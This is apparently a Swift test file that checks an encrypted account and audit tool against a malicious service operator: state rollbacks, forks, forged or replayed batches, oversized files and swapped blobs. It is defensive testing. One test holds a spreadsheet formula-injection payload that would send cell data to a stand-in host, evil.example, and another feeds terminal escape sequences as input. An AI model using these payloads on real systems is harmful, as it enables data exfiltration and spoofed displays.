import EndkeyPrimitives
import EndkeyStore
import EndkeyWire
import Foundation
import Testing

@testable import Endkey

/// What whoever runs the service can do between the commands of honest persons and computers: each attack fails, heals
/// by one act of the owner's, or is reported. The numbers are those of the table in spec/formal/properties.json.
///
/// Keys that an attacker has are those of a person who was removed, or of a computer that was opened.
@Suite("Attacks") struct AttackTests {
  // MARK: States

  @Test("attack 1: two rotations, an agent between both lines. R-11-10, R-16.2-6")
  func twoRotations() throws {
    let world = try AttackWorld()
    let agent = try world.id(of: "agent")
    // One device of the owner's, twice: two windows, of whom each hears that the service has stored its act.
    try world.copy("owner", to: "window")
    try world.fork("left", for: ["owner"])
    try world.fork("right", for: ["window"])
    for end in ["owner", "window"] {
      #expect(try world.owner("account", "rotate", end).output.hasPrefix("epoch 2,"))
    }
    // The state of one, the Grant of the other.
    try world.copy("left", to: "service")
    try world.copy("right/grants/\(agent).ek", to: "service/grants/\(agent).ek")
    #expect(try world.run(["agent", "accept", "agent"], status: 1).error.contains("epoch_fork"))
    try world.copy("left/grants/\(agent).ek", to: "service/grants/\(agent).ek")
    try world.run(["agent", "accept", "agent"])
    try world.record("agent", 1)
    // The other line wins. Its end reports what was made under the dead state, and its next epoch heals the agent.
    try world.copy("right/account", to: "service/account")
    try world.copy("right/grants", to: "service/grants")
    try world.serve("window", from: "service")
    #expect(try world.audit("window").error.contains("state_fork"))
    #expect(try world.owner("account", "rotate", "window").output.hasPrefix("epoch 3,"))
    try world.run(["agent", "accept", "agent"])
    try world.record("agent", 1)
  }

  @Test("attack 1: two rotations, no Grant of the one that died. R-12.8-3")
  func deadRotation() throws {
    let world = try AttackWorld()
    try world.copy("service", to: "before")
    // The answer is lost: there is no folder where the grants go.
    try world.remove("service/grants")
    _ = try world.folder.write([], to: "service/grants")
    let rotate = ["account", "rotate", "owner"] + world.password
    #expect(try world.run(rotate, status: 2).error.contains("kept on this device"))
    let dead = try AccountState(parsing: world.folder.read("service/account/state.ek"))
    #expect(dead.epoch.value == 2)
    // The service says that it has stored nothing, and takes another person's rotation.
    try world.copy("before", to: "service")
    try world.ben("account", "rotate", "ben")
    #expect(try world.owner("account", "rotate", "owner").output.hasPrefix("epoch 3,"))
    for name in try world.folder.names("service/grants") {
      let grant = try Grant(parsing: world.folder.read("service/grants/\(name)"))
      #expect(grant.commitment != dead.commitment)
    }
    try world.run(["agent", "accept", "agent"])
  }

  @Test("attack 2: state withheld, and the wall clock held back. R-13.5-1, R-13.5-2, R-13.5-3, R-12.1-7")
  func withheld() async throws {
    let world = try AttackWorld()
    try world.fork("old", for: ["agent"])
    try world.owner("account", "remove", "owner", "--agent", try world.id(of: "laptop"))
    let state = try AccountState(parsing: world.folder.read("old/account/state.ek"))
    #expect(state.validUntil <= state.certificateUntil)

    func run(days: UInt64) throws -> AgentEnd<EndFolder, ServiceFolder> {
      AgentEnd(
        store: try EndFolder(world.folder.path("agent"), as: .agent),
        service: ServiceFolder(path: world.folder.path("old")),
        clocks: HeldClocks(held: state.made, days: days))
    }
    let activity = CapturedActivity(kind: .idle, start: state.made, duration: 1, items: [])
    try await run(days: 0).keepTime()
    try await run(days: 59).capture([activity])
    #expect(try await run(days: 59).send().batches.count == 1)
    try await run(days: 60).capture([activity])
    await #expect(throws: EndError.self) { _ = try await run(days: 60).send() }
    #expect(try run(days: 60).status().isExpired)
    // What has run is kept, and no clock of the computer's takes it back.
    try await run(days: 60).keepTime()
    #expect(try world.run(["agent", "send", "agent"], status: 4).error.contains("state_expired"))
    // What it has made is counted, and told to be readable by who was removed.
    try world.copy("old/batches", to: "service/batches")
    let audit = try world.audit("owner")
    #expect(audit.error.contains("state_stale") && audit.output.contains("1 batch counted"))
  }

  // MARK: Values and reports

  @Test("attack 3: values leave by no formula and no page. R-18.2-1, R-18.2-4")
  func values() throws {
    let world = try AttackWorld()
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1)"
    let seal = ["token", "seal", "agent", "--field", "window_title"]
    let token = try world.run(seal, input: formula + "\n").output.dropLast()
    let csv = "=1+1,\(token),-5\n"
    let opened = try world.run(
      ["scan", "owner", "--escape", "csv"] + world.password, input: csv
    ).output
    #expect(opened == "\"'=1+1\",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\",\"-5\"\n")
    // A document of the service's is not one that a command line fills.
    try world.run(["scan", "owner", "--escape", "html"] + world.password, input: csv, status: 64)
  }

  @Test("attack 4: false reports, rows twice, moved, under other names. R-16.2-1, R-16.2-5")
  func falseReports() throws {
    let world = try AttackWorld()
    for (agent, seconds) in [("agent", 60_000), ("agent", 120_000), ("laptop", 300_000)] {
      try world.record(agent, seconds)
    }
    let honest = try world.audit("owner", status: 0).output
    #expect(honest.contains("8.0 min") && honest.hasSuffix("3 batches counted, 0 findings\n"))
    // Names and order mean nothing; a batch that is there twice counts once.
    let batches = "service/batches/\(try world.id(of: "agent"))"
    try world.copy(batches, to: "kept")
    for (number, name) in try world.folder.names(batches).enumerated() {
      try world.move("\(batches)/\(name)", to: "\(batches)/\(9 - number).ek")
      try world.copy("\(batches)/\(9 - number).ek", to: "\(batches)/again-\(number).ek")
    }
    let twice = try world.audit("owner")
    #expect(twice.output.contains("8.0 min") && twice.output.contains("3 batches counted"))
    #expect(twice.error.contains("sequence_repeat"))
    // Under the name of another computer.
    try world.remove(batches)
    let laptop = "service/batches/\(try world.id(of: "laptop"))"
    for name in try world.folder.names("kept") { try world.copy("kept/\(name)", to: "\(laptop)/\(name)") }
    #expect(try world.audit("owner", status: 0).output == honest)
    // A computer that is left out.
    try world.remove("service/batches")
    try world.copy("kept", to: batches)
    let without = try world.audit("owner")
    #expect(without.error.contains("sequence_gap") && without.output.contains("2 batches counted"))
  }

  @Test("attack 4: false reports, the tail dropped. R-16.1-1")
  func tail() throws {
    let world = try AttackWorld()
    try world.record("agent", 60_000)
    let batches = "service/batches/\(try world.id(of: "agent"))"
    let first = try world.folder.names(batches)
    try world.record("agent", 60_000)
    for name in try world.folder.names(batches) where !first.contains(name) {
      try world.remove("\(batches)/\(name)")
    }
    #expect(try world.audit("owner", status: 0).output.contains("1.0 min"))
    try world.record("agent", 60_000)
    let next = try world.audit("owner")
    #expect(next.error.contains("sequence_gap") && next.output.contains("2 batches counted"))
  }

  @Test("attack 5: batches of the removed, dated back. R-16.2-4")
  func dated() throws {
    let world = try AttackWorld()
    let laptop = try world.id(of: "laptop")
    try world.record("laptop", 60_000)
    try world.audit("owner", status: 0)
    try world.fork("old", for: ["laptop"])
    try world.owner("account", "remove", "owner", "--agent", laptop)
    // Signed under a state that was right then, at a time before the removal.
    try world.record("laptop", 600_000)
    try world.copy("old/batches", to: "service/batches")
    let audit = try world.audit("owner")
    #expect(audit.error.contains("revoked") && audit.output.contains("1.0 min"))
    #expect(audit.output.contains("1 batch counted"))
  }

  @Test("attack 5: batches of the removed, of wrong epochs, with tokens that do not open. R-16.2-6, R-16.2-7")
  func forgedBatches() throws {
    let world = try AttackWorld()
    let old = AcceptedState(try AccountState(parsing: world.folder.read("service/account/state.ek")))
    var sealer = try world.agent("agent").tokenSealer(at: old.state.made)
    let token = try sealer.seal("x", field: .url)
    try world.owner("account", "rotate", "owner")
    try world.run(["agent", "accept", "agent"])
    let wrong = try Token(field: .url, epoch: .first, v: token.v, c: token.c.map { $0 ^ 1 })
    try world.batch(of: "agent", under: old, epoch: Epoch(2), token)
    try world.batch(of: "agent", under: old, epoch: .first, wrong)
    let audit = try world.audit("owner")
    #expect(audit.error.contains("epoch_mismatch") && audit.error.contains("token_open_failed"))
    #expect(audit.output.contains("0 batches counted, 2 findings"))
    try world.batch(of: "agent", under: old, epoch: .first, token)
    #expect(try world.audit("owner").output.contains("1 batch counted, 2 findings"))
  }

  @Test(
    "attack 6: mixtures of two wholes, at an end with memory and at a fresh one. R-12.5-5, R-12.7-3, R-12.7-4"
  )
  func mixtures() throws {
    let world = try AttackWorld()
    try world.record("agent", 1)
    let rule = "{\"field\":\"application_name\",\"category\":\"neutral\",\"value\":\"<a>\"}\n"
    try world.run(["account", "rules", "owner", "--set", "-"] + world.password, input: rule)
    try world.audit("owner", status: 0)
    try world.copy("service/account", to: "old")
    try world.owner("account", "rotate", "owner")
    try world.copy("service/account", to: "new")
    try world.owner("account", "open", "fresh", "--service", "service", "--login", "l")
    try world.remove("fresh/pins.ek")
    try world.remove("fresh/pinned")
    let (files, wrap) = (["state.ek", "vault.ek", "rules.ek"], "password-wrap.ek")
    for choice in 1..<7 {
      for (place, file) in files.enumerated() {
        let whole = choice >> place & 1 == 0 ? "old" : "new"
        try world.copy("\(whole)/\(file)", to: "service/account/\(file)")
        // The wrap of the state's MasterKey.
        if place == 0 { try world.copy("\(whole)/\(wrap)", to: "service/account/\(wrap)") }
      }
      for end in ["owner", "fresh"] {
        let error = try world.run(["account", "open", end] + world.password, status: 1).error
        let codes = ["counter_rollback", "epoch_mismatch", "chain_broken"]
        #expect(codes.contains { error.contains($0) }, "\(choice), \(end): \(error)")
      }
    }
    // The old wrap beside the newest whole is none: the Grant is taken.
    try world.copy("new", to: "service/account")
    try world.copy("old/\(wrap)", to: "service/account/\(wrap)")
    try world.owner("account", "open", "fresh")
    #expect(try world.owner("account", "open", "owner").output.contains("epoch   2\n"))
  }

  @Test("attack 6: mixtures, an old whole. R-12.7-6")
  func oldWhole() throws {
    let world = try AttackWorld()
    try world.copy("service", to: "old")
    try world.owner("account", "rotate", "owner")
    try world.copy("old", to: "service")
    #expect(
      try world.run(["account", "open", "owner"] + world.password, status: 1).error.contains("rollback"))
    // An end without memory shows what tells it, and signs nothing unasked.
    let fresh = try world.owner("account", "open", "fresh", "--service", "service", "--login", "l")
    let state = try AccountState(parsing: world.folder.read("service/account/state.ek"))
    let digits = "\(Hash(sha256: state.serialized))".prefix(8)
    #expect(fresh.output.contains("list    \(state.generation),"))
    #expect(fresh.output.contains("state   \(state.counter) (\(digits))") && fresh.error.contains("--newest"))
    let rotate = ["account", "rotate", "fresh"] + world.password
    #expect(try world.run(rotate, status: 1).error.contains("approval_required"))
  }

  @Test("attack 7: one V, two ciphertexts. R-16.3-1")
  func oneV() throws {
    let world = try AttackWorld()
    let state = AcceptedState(try AccountState(parsing: world.folder.read("service/account/state.ek")))
    var sealer = try world.agent("agent").tokenSealer(at: state.state.made)
    let token = try sealer.seal("honest", field: .url)
    let other = try Token(field: .url, epoch: .first, v: token.v, c: token.c.map { $0 ^ 1 })
    let first = try world.batch(of: "agent", under: state, epoch: .first, token)
    let second = try world.batch(of: "agent", after: first, under: state, epoch: .first, other)
    let rows = try world.run(["batch", "list", first, second]).output
    #expect(rows.contains(token.text) && rows.contains(other.text) && token.text != other.text)
    let audit = try world.audit("owner")
    #expect(audit.error.contains("token_open_failed") && audit.output.contains("1 batch counted"))
    let scan = try world.run(
      ["scan", "owner"] + world.password, input: "\(token.text) \(other.text)", status: 1)
    #expect(scan.output == "honest \(other.text)")
  }

  @Test("attack 8: two lines, told by vaults and batches, healed by one repair. R-12.7-4, R-12.7-5, R-12.1-6")
  func twoLines() throws {
    let world = try AttackWorld()
    try world.fork("left", for: ["owner"])
    try world.fork("right", for: ["ben", "agent"])
    try world.owner("account", "rotate", "owner")
    try world.ben("account", "rotate", "ben")
    try world.run(["agent", "accept", "agent"])
    try world.record("agent", 1)
    try world.copy("right/batches", to: "left/batches")
    #expect(try world.audit("owner").error.contains("state_fork"))
    try world.serve("ben", from: "left")
    try world.serve("agent", from: "left")
    let open = ["account", "open", "ben"] + world.benPassword
    let refused = try world.run(open, status: 1).error
    #expect(refused.contains("counter_fork"))
    try world.owner("account", "repair", "owner", "--keep-others")
    let healed = try world.run(open).error
    #expect(healed.contains("counter_fork") && healed.contains("--newest"))
    try world.run(["agent", "accept", "agent"])
    try world.ben("account", "rotate", "ben", "--newest")
    try world.owner("account", "open", "owner")
  }

  // MARK: Members and persons

  @Test("attack 9: code twice, one of the two computers removed. R-12.3-2, R-12.3-3")
  func codeTwice() throws {
    let world = try AttackWorld()
    let code = try world.owner("account", "code", "owner", "--uses", "2", "--label", "desk").output
    _ = try world.folder.write(Array(code.utf8), to: "two.code")
    for name in ["one", "two"] { try world.request(name, "two.code") }
    try world.owner("grant", "owner")
    let (one, two) = (try world.id(of: "one"), try world.id(of: "two"))
    let remove = ["account", "remove", "owner", "--agent", one] + world.password
    let asked = try world.run(remove, status: 1).error
    #expect(asked.contains("asked about: agent \(two)") && asked.contains("approval_required"))
    try world.run(remove + ["--remove", two])
    for name in ["one", "two"] {
      #expect(try world.run(["agent", "accept", name], status: 1).error.contains("revoked"))
    }
    // Its text is still in a hand, and enrols nobody.
    try world.request("three", "two.code")
    #expect(try world.run(["grant", "owner"] + world.password).error.contains("mac_invalid"))
  }

  @Test("attack 10: removed manager, with the service's help. R-12.1-5, R-12.1-6, R-12.8-6, R-12.9-3")
  func removedManager() async throws {
    let world = try AttackWorld()
    let (agent, laptop) = (try world.id(of: "agent"), try world.id(of: "laptop"))
    try world.fork("old", for: ["ben", "laptop"])
    try world.owner("account", "person", "remove", "owner", "--person", world.benID, "--keep-others")
    try world.run(["agent", "accept", "agent"])
    try world.ben("account", "rotate", "ben")
    // A computer that is shown nothing else follows, no longer than the owner's last list.
    try world.run(["agent", "accept", "laptop"])
    let theirs = try AccountState(parsing: world.folder.read("old/account/state.ek"))
    let isolated = AgentEnd(
      store: try EndFolder(world.folder.path("laptop"), as: .agent),
      service: ServiceFolder(path: world.folder.path("old")),
      clocks: HeldClocks(held: theirs.made, days: 90))
    #expect(try isolated.status().isExpired && theirs.validUntil <= theirs.certificateUntil)
    // A forged removal.
    try world.ben("account", "remove", "ben", "--agent", laptop)
    #expect(try world.run(["agent", "accept", "laptop"], status: 1).error.contains("revoked"))

    // Who has seen the new list takes nothing of the old one.
    try world.copy("service", to: "honest")
    try world.copy("old/account", to: "service/account")
    try world.copy("old/grants", to: "service/grants")
    #expect(try world.run(["agent", "accept", "agent"], status: 1).error.contains("generation_rollback"))
    let open = ["account", "open", "owner"] + world.password
    #expect(try world.run(open, status: 1).error.contains("generation_rollback"))
    try world.copy("honest/account", to: "service/account")
    try world.copy("old/grants/\(agent).ek", to: "service/grants/\(agent).ek")
    try world.run(["agent", "accept", "agent"])

    // One repair heals the isolated computer.
    try world.owner("account", "repair", "owner", "--keep-others")
    try world.serve("laptop", from: "service")
    try world.run(["agent", "accept", "laptop"])
    try world.run(["agent", "accept", "agent"])
  }

  @Test("attack 11: pictures swapped or deleted. R-15-1")
  func pictures() throws {
    let world = try AttackWorld()
    let agent = try world.id(of: "agent")
    for name in ["one", "two"] {
      _ = try world.folder.write(Array("picture \(name)".utf8), to: name)
      let line = "{\"kind\":\"screenshot\",\"start\":1,\"duration\":0,\"screenshot\":\"\(name)\"}\n"
      try world.run(["agent", "record", "agent"], input: line)
    }
    let blobs = "service/blobs/\(agent)"
    let names = try world.folder.names(blobs)
    try #require(names.count == 2)
    func look(at name: String, status: Int32) throws -> Binary.Result {
      let digest = String(name.dropLast(3))
      let open = ["blob", "open", "owner", digest, "--named-by", agent, "--out", "seen-\(digest)"]
      return try world.run(open + world.password, status: status)
    }
    try world.copy(blobs, to: "honest")
    try world.copy("honest/\(names[0])", to: "\(blobs)/\(names[1])")
    #expect(try look(at: names[1], status: 1).error.contains("blob_open_failed"))
    try world.remove("\(blobs)/\(names[1])")
    #expect(try look(at: names[1], status: 1).error.contains("blob_missing"))
    #expect(try !world.folder.names().contains { $0.hasPrefix("seen-") })
    try world.copy("honest/\(names[1])", to: "\(blobs)/\(names[1])")
    for name in names { _ = try look(at: name, status: 0) }
    let seen = try world.folder.names().filter { $0.hasPrefix("seen-") }.map { try world.folder.read($0) }
    #expect(Set(seen) == [Array("picture one".utf8), Array("picture two".utf8)])
  }

  // MARK: Devices

  @Test("attack 12: weaker password, at a device that remembers. R-12.7-2, R-13.2-1")
  func weakerPassword() throws {
    let folder = try Scratch()
    _ = try folder.write(Array("p\n".utf8), to: "password")
    let world = AttackWorld(in: folder)
    try world.owner(
      "account", "create", "owner", "--service", "service", "--login", "l", "--iterations", "700000",
      "--new-account-secret-file", "secret", "--recovery-file", "paper")
    let name = try #require(try folder.names("service/account").first { $0.hasPrefix("keys-") })
    let keys = try PersonKeys(parsing: folder.read("service/account/\(name)"))
    let weaker: [(inout PasswordHeader) -> Void] = [
      { $0.iterations = 600_000 }, { $0.accountSecret = .none },
      {
        $0.iterations = 600_000
        $0.counter = 9
      },
      {
        $0.accountSecret = .none
        $0.counter = 9
      },
    ]
    for change in weaker {
      var forged = keys
      change(&forged.head)
      _ = try folder.write(forged.serialized, to: "service/account/\(name)")
      let before = try world.tree("service")
      // There is no terminal, no file and no descriptor: the refusal comes before a password is asked for.
      #expect(try world.run(["account", "open", "owner"], status: 1).error.contains("pin_mismatch"))
      #expect(try world.tree("service") == before)
    }
    _ = try folder.write(keys.serialized, to: "service/account/\(name)")
    try world.owner("account", "open", "owner", "--account-secret-file", "secret")
  }

  @Test("attack 13: pins deleted, the mark is there. R-13.2-2, R-12.8-1")
  func pinsDeleted() throws {
    let world = try AttackWorld()
    try world.copy("service", to: "old")
    try world.owner("account", "rotate", "owner")
    try world.copy("old", to: "service")
    try world.remove("owner/pins.ek")
    let opened = try world.owner("account", "open", "owner")
    #expect(opened.error.contains("what this device remembered is lost") && opened.error.contains("--newest"))
    let before = try world.tree("service")
    for act in [["account", "rotate", "owner"], ["account", "code", "owner"], ["grant", "owner"]] {
      let refused = try world.run(act + world.password, status: act[0] == "grant" ? 0 : 1)
      #expect(act[0] == "grant" || refused.error.contains("approval_required"))
      #expect(try world.tree("service") == before)
    }
  }

  @Test("attack 14: foreign batch in the place of the next one. R-16.2-3, R-16.2-5")
  func foreignBatch() throws {
    let world = try AttackWorld()
    let batches = "service/batches/\(try world.id(of: "agent"))"
    try FileManager.default.createDirectory(
      atPath: world.folder.path(batches), withIntermediateDirectories: true)
    let foreign = String(repeating: "0", count: 64)
    for name in ["1.ek", "00000001.ek", "\(foreign).ek"] {
      _ = try world.folder.write([1, 2, 3], to: "\(batches)/\(name)")
    }
    try world.record("agent", 60_000)
    #expect(try world.audit("owner").output.contains("1 batch counted, 3 findings"))
    try world.record("agent", 60_000)
    #expect(try world.audit("owner").output.contains("2 batches counted, 3 findings"))
  }

  @Test("attack 14: foreign batch, of a computer that was cloned. R-16.2-5")
  func clone() throws {
    let world = try AttackWorld()
    try world.copy("agent", to: "clone")
    try world.record("agent", 60_000)
    try world.record("clone", 120_000)
    let audit = try world.audit("owner")
    #expect(audit.error.contains("sequence_fork") && audit.output.contains("1 batch counted"))
  }

  @Test("attack 15: escapes in what is captured. R-18.2-4")
  func escapes() throws {
    let world = try AttackWorld()
    let title = "\u{1b}]0;x\u{7}\u{9b}31m\u{202e}\u{2066}\u{2028}\u{7f}\r\nend"
    let line = try JSONSerialization.data(
      withJSONObject: ["kind": "application", "start": 1, "duration": 60_000, "window_title": title])
    try world.run(["agent", "record", "agent"], input: String(decoding: line, as: UTF8.self))
    let audit = try world.audit("owner", status: 0).output
    let shown = "\\u{1b}]0;x\\u{7}\\u{9b}31m\\u{202e}\\u{2066}\\u{2028}\\u{7f}\\u{d}\\u{a}end"
    #expect(audit.contains(shown))
    let seal = ["token", "seal", "agent", "--field", "window_title"]
    let token = try world.run(seal, input: "\u{1b}[2J\u{202e}\n").output.dropLast()
    let scan = try world.run(["scan", "owner"] + world.password, input: String(token)).output
    #expect(scan == "\\u{1b}[2J\\u{202e}")
    try world.owner("account", "label", "owner", "--agent", try world.id(of: "agent"), title)
    #expect(try world.owner("account", "open", "owner").output.contains(shown))
  }

  @Test("attack 16: sizes of 32 MiB. R-6.1-1, R-6.1-2")
  func sizes() throws {
    let world = try AttackWorld()
    try world.copy("service", to: "honest")
    let long = [UInt8](repeating: 0xff, count: 32 << 20)
    let files = ["state.ek", "vault.ek"].map { "service/account/\($0)" }
    let open = ["account", "open", "owner"] + world.password
    let codes = ["trailing_bytes", "bad_magic", "length_out_of_range"]
    for file in files {
      let honest = try world.folder.read(file)
      for bytes in [honest + long, long] {
        _ = try world.folder.write(bytes, to: file)
        let refused = try world.run(open, status: 1).error
        #expect(codes.contains { refused.contains($0) }, "\(refused)")
      }
      _ = try world.folder.write(honest, to: file)
    }
    _ = try world.folder.write(long, to: "service/requests/\(String(repeating: "0", count: 32)).ek")
    let grant = try world.run(["grant", "owner"] + world.password, status: 2)
    #expect(grant.error.contains("bad_magic"))
    // Far more than the process may take: what is read ends behind the greatest message.
    let file = try FileHandle(forWritingTo: world.folder.url.appending(path: files[0]))
    try file.truncate(atOffset: 1 << 34)
    try file.close()
    let limited = try Binary.run(
      "/bin/sh", ["-c", "ulimit -v 4194304; exec \"$0\" \"$@\"", Binary.path] + open, in: world.folder)
    #expect(limited.status == 1 && limited.error.contains("trailing_bytes"), "\(limited.error)")
  }

  @Test("attack 16: sizes, a vault of 20,000 past epochs. R-8.4-2")
  func pastEpochs() throws {
    let world = try AttackWorld()
    let session = try world.session(of: "ben")
    var vault = session.vault
    for number in 10..<10 + UInt32(Limit.pastKeysMax - vault.pastKeys.count) {
      let secret = SecretBytes(copying: [UInt8](repeating: 1, count: 32))
      try vault.keep(
        Shared(MasterKey(secret: secret, accountID: session.accountID, epoch: Epoch(number))))
    }
    // As many as a vault may have, and then five times as many, which its padding goes on to fit.
    var contents = try vault.contents().withBytes { bytes in bytes.indices.map { bytes[$0] } }
    let key = [UInt8](repeating: 1, count: 32)
    let last = try #require(
      contents.indices.dropLast(39).last { Array(contents[$0..<$0 + 32]) == key })
    let more = (0..<UInt32(16_384)).flatMap { number -> [UInt8] in
      (0..<4).map { UInt8(truncatingIfNeeded: (20_000 + number) >> (24 - 8 * $0)) } + key
    }
    let count = 36 * (Limit.pastKeysMax + 16_384)
    let start = last + 32 - 36 * Limit.pastKeysMax
    contents.insert(contentsOf: more, at: last + 32)
    contents.replaceSubrange(start - 3..<start, with: (0..<3).map { UInt8(count >> (16 - 8 * $0) & 255) })
    let header = OwnerVault.header(accountID: session.accountID, epoch: session.epoch)
    let counter = try #require(session.vaultCounter.next)
    var random = SystemRandom()
    let sealed = try ChunkedEncryption.seal(
      SecretBytes(copying: contents), key: session.masterKey.value.vaultKey(),
      context: OwnerVault.context(header: header, counter: counter), using: &random)
    let message = OwnerVault(
      accountID: session.accountID, epoch: session.epoch, counter: counter, sealed: try Sealed(sealed),
      signer: session.identity.value.verifyKey
    ).signed(by: session.identity.value.signing)
    _ = try world.folder.write(message.serialized, to: "service/account/vault.ek")
    let refused = try world.run(["account", "open", "owner"] + world.password, status: 1)
    #expect(refused.error.contains("vault_open_failed"))
  }

  @Test("attack 17: last numbers, healed by one root act. R-12.1-6, R-12.9-1")
  func lastNumbers() throws {
    let world = try AttackWorld()
    let session = try world.session(of: "ben")
    var random = SystemRandom()
    let accountID = session.accountID
    let masterKey = try MasterKey(accountID: accountID, epoch: Epoch(.max), using: &random)
    let old = session.state.state
    let state = try AccountState.make(
      counter: .max, made: old.made, validUntil: old.validUntil, masterKey: masterKey, list: old.list,
      revoked: [], signingKey: session.identity.value.signing)
    var vault = session.vault
    try vault.keep(session.masterKey)
    vault.note(AcceptedState(state).note)
    vault.madeBy = session.personID
    vault.follow(session.vaultHash)
    let sealed = try vault.sealed(
      counter: .max, masterKey: masterKey, signingKey: session.identity.value.signing, using: &random)
    _ = try world.folder.write(state.serialized, to: "service/account/state.ek")
    _ = try world.folder.write(sealed.serialized, to: "service/account/vault.ek")
    for person in vault.persons {
      try world.put(
        Grant.make(
          .master, to: person.personID, modulus: person.modulus, masterKey: masterKey,
          signingKey: session.identity.value.signing, using: &random))
    }
    let agent = try EnrolmentRequest(
      parsing: world.folder.read("service/requests/\(try world.id(of: "agent")).ek"))
    try world.put(
      Grant.make(
        .scoped, to: agent.agentID, modulus: agent.modulus, masterKey: masterKey,
        signingKey: session.identity.value.signing,
        using: &random))

    try world.run(["agent", "accept", "agent"])
    #expect(try world.owner("account", "open", "owner").output.contains("epoch   4294967295\n"))
    let rotate = ["account", "rotate", "owner"] + world.password
    #expect(try world.run(rotate, status: 2).error.contains("limit_reached"))
    #expect(try world.owner("account", "repair", "owner", "--keep-others").output.hasPrefix("epoch 2,"))
    try world.run(["agent", "accept", "agent"])
    try world.run(["agent", "accept", "laptop"])
    #expect(try world.run(["account", "open", "ben"] + world.benPassword).output.contains("epoch   2\n"))
    #expect(try world.owner("account", "rotate", "owner").output.hasPrefix("epoch 3,"))
  }

  // MARK: Acts that are overtaken

  @Test(
    "attack 18: a member slipped in while its person is removed. R-12.8-9, R-12.9-3", arguments: 0..<3)
  func slippedIn(_ choice: Int) throws {
    let world = try AttackWorld()
    let laptop = try world.id(of: "laptop")
    let remove = ["account", "person", "remove", "owner", "--person", try world.benID]
    let repair = ["account", "repair", "owner"]
    let act = [remove, repair, ["account", "remove", "owner", "--agent", try world.id(of: "agent")]][choice]
    try world.lose(act + ["--keep-others"] + world.password)
    // A computer of the manager's own, with the MasterKey and no code that anybody knows; and another one's kind.
    let slipped = AgentID.zero
    try world.write(as: "ben") { vault in
      try vault.set(
        Member(
          agentID: slipped, label: BoundedBytes([]), codeID: .zero, kind: .master, status: .granted,
          listed: 0,
          auditedSequence: 0, auditedHash: .zero, auditedGeneration: 0, auditedState: 0, keptSequence: 0,
          keptHash: .zero))
      var flipped = try #require(vault.members.first { "\($0.agentID)" == laptop })
      flipped.kind = .master
      try vault.set(flipped)
    }
    let before = try world.tree("service/account")
    let opened = try world.owner("account", "open", "owner")
    #expect(opened.error.contains("another device was faster"))
    #expect(choice == 2 || opened.error.contains("`account repair` comes before everything else"))
    #expect(try world.tree("service/account") == before)
    // The act is not made on the word of before, and tells what has changed.
    let asked = try world.run(act + world.password, status: 1).error
    #expect(asked.contains("approval_required") && asked.contains("agent \(slipped) granted, no label"))
    #expect(
      choice == 2
        || asked.contains("agent \(laptop) granted, \"bag\"") && asked.contains("with the MasterKey"))
    try world.run(act + ["--remove", "\(slipped)", "--remove", laptop, "--keep-others"] + world.password)
    #expect(try !world.folder.names("service/grants").contains("\(slipped).ek"))
    let state = try AccountState(parsing: world.folder.read("service/account/state.ek"))
    let grant = try Grant(parsing: world.folder.read("service/grants/\(laptop).ek"))
    #expect(state.epoch.value == 2 && grant.epoch == .first)
  }

  @Test("attack 19: a person whose adding died, on a list in use. R-12.9-2")
  func deadAddition() throws {
    let world = try AttackWorld()
    let malID = try world.join("mal")
    let add = ["account", "person", "add", "owner", "--approve", malID]
    // What was sent stays with the service, which says that it has stored nothing, and takes another act.
    try world.lose(add + world.password)
    try world.ben("account", "rotate", "ben")
    let opened = try world.owner("account", "open", "owner")
    #expect(opened.error.contains("`account repair` comes before everything else"))
    let listed = try AccountState(parsing: world.folder.read("service/account/state.ek")).generation
    #expect(
      try world.run(["account", "rotate", "owner"] + world.password, status: 1).error.contains("unsettled"))
    #expect(try world.run(add + world.password, status: 1).error.contains("approval_required"))
    try world.run(add + ["--keep-others"] + world.password)
    // Whatever the dead list signs is of a generation that has passed.
    let state = try AccountState(parsing: world.folder.read("service/account/state.ek"))
    #expect(state.generation > listed && state.signers.count == 3)
    try world.run(["agent", "accept", "agent"])
    try world.owner("account", "rotate", "owner")
  }

  @Test("attack 20: acts of another person's taken back by one that comes late. R-12.8-8, R-16.2-8")
  func takenBack() throws {
    let world = try AttackWorld()
    let (agent, laptop) = (try world.id(of: "agent"), try world.id(of: "laptop"))
    try world.record("agent", 60_000)
    try world.lose(["account", "rotate", "owner"] + world.password)
    // Meanwhile the manager names a computer, audits, and lets another one in.
    try world.ben("account", "label", "ben", "--agent", laptop, "theirs")
    #expect(
      try world.run(["batch", "audit", "ben"] + world.benPassword).output.contains("1 batch counted"))
    _ = try world.folder.write(Array(try world.ben("account", "code", "ben").output.utf8), to: "third.code")
    try world.request("third", "third.code")
    try world.ben("grant", "ben")
    let third = try world.id(of: "third")
    let opened = try world.owner("account", "open", "owner").output
    #expect(opened.contains("epoch   2\n"))
    #expect(
      opened.contains("agent \(laptop) granted, \"theirs\"") && opened.contains("agent \(third) granted"))
    for name in ["agent", "laptop", "third"] { try world.run(["agent", "accept", name]) }
    let member = try world.session(of: "ben").vault.members.first { "\($0.agentID)" == agent }
    #expect(member?.auditedSequence == 1)
  }

  // MARK: What a signer writes

  /// What a person who may sign writes so that no act of the owner's follows.
  struct Stop: Sendable, CustomTestStringConvertible {
    let testDescription: String
    let code: ErrorCode
    var state = AttackWorld.ForgedState.none
    var isAside = true
    let edit: @Sendable (inout Vault) throws -> Void
  }

  static let stops = [
    Stop(testDescription: "the owner's keys", code: .chainBroken, isAside: false) { vault in
      var owner = try #require(vault.persons.first { $0.role == .owner })
      owner.keys = Hash(sha256: [1])
      try vault.set(owner)
    },
    Stop(testDescription: "rules that nobody has", code: .chainBroken) { $0.ruleSet = Hash(sha256: [1]) },
    Stop(testDescription: "a rotation without the owner's Grant", code: .noMasterKey, state: .rotated) { _ in
    },
    Stop(testDescription: "another MasterKey of the epoch", code: .epochFork, state: .sameEpoch) { _ in },
    Stop(testDescription: "no note of the state before", code: .stateFork, state: .renewed) {
      $0.states.remove(at: $0.states.count - 2)
    },
    Stop(testDescription: "a MasterKey of its own", code: .stateFork, state: .ownMasterKey) { _ in },
    Stop(testDescription: "4,096 past keys", code: .limitReached) { vault in
      var random = SystemRandom()
      vault.pastKeys = try (10..<UInt32(10 + Limit.pastKeysMax)).map { epoch in
        Shared(try MasterKey(accountID: AccountID.zero, epoch: Epoch(epoch), using: &random))
      }
    },
    Stop(testDescription: "a vault that is full", code: .limitReached) { vault in
      vault.rules = try (0..<3_200).map { number in
        let value = Array("\(10_000 + number)".utf8) + [UInt8](repeating: 97, count: 4_000)
